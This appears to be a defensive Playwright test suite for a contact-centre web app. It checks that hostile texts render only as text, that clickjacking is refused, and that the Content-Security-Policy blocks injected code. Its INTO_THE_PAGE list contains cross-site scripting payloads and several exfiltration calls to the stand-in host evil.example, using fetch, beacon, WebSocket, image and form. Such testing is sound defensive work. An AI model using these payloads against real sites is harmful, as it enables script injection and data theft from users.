import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { inflateRawSync } from 'node:zlib';
import { type Browser, type Page, expect as see } from '@playwright/test';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import type { KnownNames } from '../../../contract/known-names.ts';
import type { OfferPlan } from '../../../contract/offer-plan.ts';
import { packed } from '../../../lib/constructs/packed.ts';
import { wallClock } from '../../../local/connect/wall-clock.ts';
import { type Demo, startDemo } from '../../../local/demo.ts';
import { freePorts } from '../../../local/free-ports.ts';
import { createCast } from '../../../local/people/cast.ts';
import { SUPERVISOR } from '../../../local/stack.ts';
import { type Desk, openDesk } from '../../browser/desk.ts';
import { type EditableResources, editedAssembly, resourcesNamed } from '../../scenario/edited-assembly.ts';
import { launchBrowser } from '../../support/browser.ts';
import { attacks } from '../attacks.ts';
import { HOSTILE_TEXT, HOSTILE_TEXTS, hostileName, INJECTED } from './hostile-texts.ts';
import { type Watched, watch } from './watch.ts';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 120_000 });
const WAIT = { timeout: 20_000 };

/** Everybody and everything of the config has a hostile name. */
function renamed(resources: EditableResources): void {
  for (const { Properties } of resourcesNamed(resources, 'Custom::Names')) {
    const known = unpacked<KnownNames>(Properties.Names);
    const hostile = <T extends { readonly name: string }>(all: readonly T[]) => all.map((one) => ({ ...one, name: hostileName(one.name) }));
    const { agents, queues, externals, offeredOn } = known;
    Properties.Names = packed({
      ...known,
      agents: hostile(agents),
      queues: hostile(queues),
      externals: hostile(externals),
      offeredOn: offeredOn.map(hostileName),
    });
  }
  for (const { Properties } of resourcesNamed(resources, 'Custom::QueueQuickConnects')) {
    const plan = unpacked<OfferPlan>(Properties.Plan);
    const offers = plan.offers.map((offer) => ({ ...offer, quickConnects: offer.quickConnects.map(hostileName) }));
    Properties.Plan = packed({ ...plan, offers });
  }
  for (const { Properties } of resourcesNamed(resources, 'AWS::Connect::QuickConnect')) Properties.Name = hostileName(Properties.Name);
}

const unpacked = <T>(text: string) => JSON.parse(inflateRawSync(Buffer.from(text, 'base64')).toString('utf8')) as T;

interface WatchedDesk {
  readonly desk: Desk;
  readonly watched: Watched;
}

let demo: Demo;
let browser: Browser;
let alice: WatchedDesk;
let bob: WatchedDesk;
let report: { readonly page: Page; readonly watched: Watched };
let root = '';

beforeAll(async () => {
  [demo, browser] = await Promise.all([
    startDemo({
      firstPort: await freePorts(),
      connect: { delivery: { recordDelayMs: [200, 400], eventDelayMs: [10, 40] } },
      timeScale: 0.5,
      sizes: { environments: 1 },
      edit: async (assembly) => editedAssembly(assembly, renamed),
    }),
    launchBrowser(),
  ]);
  await demo.stack.cloud.warm();
  [alice, bob] = await Promise.all([watchedDesk('alice'), watchedDesk('bob')]);
  await startCall();
  report = await watchedReport();
});
afterAll(async () => {
  await browser.close();
  await demo.stop();
});

async function watchedDesk(login: string): Promise<WatchedDesk> {
  const desk = await openDesk(browser, { deskUrl: demo.stack.addresses.desk, login });
  const watched = await watch(desk.page.context());
  await desk.reload();
  return { desk, watched };
}

/** The report page of a supervisor, with a hostile text where its address has the filters. */
async function watchedReport(): Promise<typeof report> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 860 }, reducedMotion: 'reduce' });
  const watched = await watch(context);
  const page = await context.newPage();
  await page.goto(`${demo.stack.addresses.desk}/report/?login_hint=${SUPERVISOR}#range=${encodeURIComponent(HOSTILE_TEXT)}`);
  await page.getByRole('button', { name: SUPERVISOR }).first().click();
  await page
    .getByRole('option')
    .first()
    .waitFor({ state: 'attached', ...WAIT });
  return { page, watched };
}

/** A customer with hostile attributes is with Alice, who has written a hostile note; Bob's phone rings. */
async function startCall(): Promise<void> {
  const { connect, inboundNumber } = demo.stack;
  await alice.desk.become('Available');
  connect.phones.callIn({ from: '+12065550142', to: inboundNumber, attributes: { caseId: HOSTILE_TEXT, topic: HOSTILE_TEXT } });
  await alice.desk.press('Accept');
  await alice.desk.says(/talking with the customer/);
  await bob.desk.become('Available');
  root = connect.agentPort('alice').snapshot().contacts[0]?.contactId ?? '';
  const note = { reason: HOSTILE_TEXTS.slice(0, 5).join(' '), matters: HOSTILE_TEXT, tried: HOSTILE_TEXT, version: 0 };
  // Who is on the contact is known a moment later.
  await vi.waitFor(
    async () => expect(await demo.stack.api(`/contacts/${root}/note`, 'alice', note, 'PUT')).toMatchObject({ status: 200 }),
    WAIT,
  );
  const cast = createCast({ clock: wallClock, network: connect.phones, inboundNumber, agentPort: connect.agentPort, connect });
  await cast.alice.consult(hostileName('Bob'));
  await bob.desk.says(/asks you into a call/);
}

/** Streams asks for the global object by a text made a function, and lives without the answer (amazon-connect-streams 2.28.2). */
const OF_STREAMS = 'script-src eval main.js';

/** Nothing of a text became part of the page, ran, was stopped by the policy, or went out. */
async function expectOnlyText(page: Page, { ran, outside, violations }: Watched): Promise<void> {
  expect(await page.locator(INJECTED).evaluateAll((all) => all.map(({ outerHTML }) => outerHTML.slice(0, 120)))).toEqual([]);
  const stopped = (await violations(page)).filter((one) => one !== OF_STREAMS);
  expect({ ran, outside, stopped }).toEqual({ ran: [], outside: [], stopped: [] });
}

describe('a hostile text is shown as what it is, and nothing else', () => {
  attacks<() => Promise<void>>(
    'pages',
    [
      [
        'in the attributes of a call',
        async () => {
          await see(alice.desk.page.locator('.facts dd').first()).toHaveText(HOSTILE_TEXT, WAIT);
          await expectOnlyText(alice.desk.page, alice.watched);
        },
      ],
      [
        'in the address of a case',
        async () => {
          const href = await alice.desk.page.locator('section a[target=_blank]').getAttribute('href');
          expect(href).toBe(`${demo.stack.addresses.play}/?case=${encodeURIComponent(HOSTILE_TEXT)}`);
        },
      ],
      [
        'in the note, for who wrote it',
        async () => {
          await see(alice.desk.page.getByLabel('What matters', { exact: true })).toHaveValue(HOSTILE_TEXT, WAIT);
          await expectOnlyText(alice.desk.page, alice.watched);
        },
      ],
      [
        'in the note, and in the name of who asks, while it rings',
        async () => {
          await see(bob.desk.page.locator('.note')).toContainText(HOSTILE_TEXT, WAIT);
          await see(bob.desk.page.locator('body')).toContainText(hostileName('Alice'), WAIT);
          await expectOnlyText(bob.desk.page, bob.watched);
        },
      ],
      [
        'in the name of who is asked',
        async () => {
          await see(alice.desk.page.locator('.party-name').filter({ hasText: hostileName('Bob') })).toBeVisible(WAIT);
          await expectOnlyText(alice.desk.page, alice.watched);
        },
      ],
    ],
    async (look, tried) => {
      await look();
      tried(HOSTILE_TEXTS.length);
    },
  );

  attacks('pages', [['in the filters and lists of the report page', '/report/']], async (_, tried) => {
    await see(
      report.page
        .locator('option')
        .filter({ hasText: hostileName('Alice') })
        .first(),
    ).toBeAttached(WAIT);
    await expectOnlyText(report.page, report.watched);
    tried(HOSTILE_TEXTS.length);
  });
});

/** What a script would do that had got into the page in spite of all: run by the page, from an element, as an injection would. */
const INTO_THE_PAGE: readonly (readonly [string, string, string])[] = [
  ['a script within the page', `add('script', { textContent: 'attacked()' })`, 'script-src-elem'],
  ['a handler within the page', `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=attacked()>')`, 'script-src-attr'],
  ['a link that is a script', `add('a', { href: 'javascript:attacked()' }).click()`, 'script-src-elem'],
  ['a script from elsewhere', `add('script', { src: 'https://evil.example/x.js' })`, 'script-src-elem'],
  ['a script as data', `add('script', { src: 'data:text/javascript,attacked()' })`, 'script-src-elem'],
  ['a text that is made a function', `setTimeout('attacked()', 0)`, 'script-src'],
  ['a worker of a text', `try { new Worker(URL.createObjectURL(new Blob(['0']))) } catch {}`, 'worker-src'],
  ['a style sheet from elsewhere', `add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })`, 'style-src-elem'],
  ['a style within the page', `add('style', { textContent: '*{display:none}' })`, 'style-src-elem'],
  ['a picture that carries data away', `add('img', { src: 'https://evil.example/?data' })`, 'img-src'],
  ['a request that carries data away', `fetch('https://evil.example/?data').catch(() => {})`, 'connect-src'],
  ['a beacon that carries data away', `navigator.sendBeacon('https://evil.example/', 'data')`, 'connect-src'],
  ['a socket that carries data away', `try { new WebSocket('wss://evil.example/') } catch {}`, 'connect-src'],
  ['a frame of another site', `add('iframe', { src: 'https://evil.example/' })`, 'frame-src'],
  ['a plug-in', `add('object', { data: 'https://evil.example/x' })`, 'object-src'],
  ['a form that carries data away', `add('form', { action: 'https://evil.example/', method: 'post' }).submit()`, 'form-action'],
  [
    'another base for all addresses',
    `document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))`,
    'base-uri',
  ],
];

describe('what got into a page in spite of all is stopped by its policy', () => {
  const all = (['the desk', 'the report page'] as const).flatMap((where) =>
    INTO_THE_PAGE.map(([what, code, directive]) => [`${what}, in ${where}`, { where, code, directive }] as const),
  );
  attacks('pages', all, async ({ where, code, directive }) => {
    const { page, watched } = where === 'the desk' ? { page: alice.desk.page, watched: alice.watched } : report;
    const stopped = async () => (await watched.violations(page)).filter((one) => one.startsWith(`${directive} `)).length;
    const before = await stopped();
    // Later, and not in the evaluation: that one is not bound by the policy.
    await page.evaluate(
      `void setTimeout(() => { const add = (tag, is) => document.body.appendChild(Object.assign(document.createElement(tag), is)); ${code} })`,
    );
    await expect.poll(stopped, WAIT).toBeGreaterThan(before);
    expect([watched.ran, watched.outside]).toEqual([[], []]);
  });

  /** Where the frames of a page are, once all have gone somewhere. */
  async function framesOf(address: string): Promise<readonly string[]> {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(address);
    const urls = () =>
      page
        .frames()
        .slice(1)
        .map((frame) => frame.url());
    await expect.poll(() => urls().filter((url) => url !== '' && url !== 'about:blank').length, WAIT).toBeGreaterThan(0);
    const found = urls();
    await context.close();
    return found;
  }

  test('the play page, which the config names, frames desks', async () => {
    expect(await framesOf(demo.stack.addresses.play)).not.toContain(REFUSED_FRAME);
  });
  attacks(
    'pages',
    ['/', '/report/'].map((path) => [`framed by a site that the config does not name: ${path}`, path] as const),
    async (path) => {
      const { address, close } = await siteThatFrames(`${demo.stack.addresses.desk}${path}`);
      expect(await framesOf(address)).toEqual([REFUSED_FRAME]);
      await close();
    },
  );
});

/** What Chromium shows in place of a page that may not be framed. */
const REFUSED_FRAME = 'chrome-error://chromewebdata/';

async function siteThatFrames(url: string): Promise<{ readonly address: string; readonly close: () => Promise<unknown> }> {
  const server = createServer((_, response) => response.setHeader('content-type', 'text/html').end(`<iframe src="${url}"></iframe>`));
  await once(server.listen(0, '127.0.0.1'), 'listening');
  const { port } = server.address() as AddressInfo;
  return { address: `http://localhost:${port}/`, close: async () => server.close() };
}

test('nothing failed unseen in the stack', () => {
  expect([demo.stack.cloud.deniedRequests(), demo.stack.cloud.troubles()]).toEqual([[], []]);
});
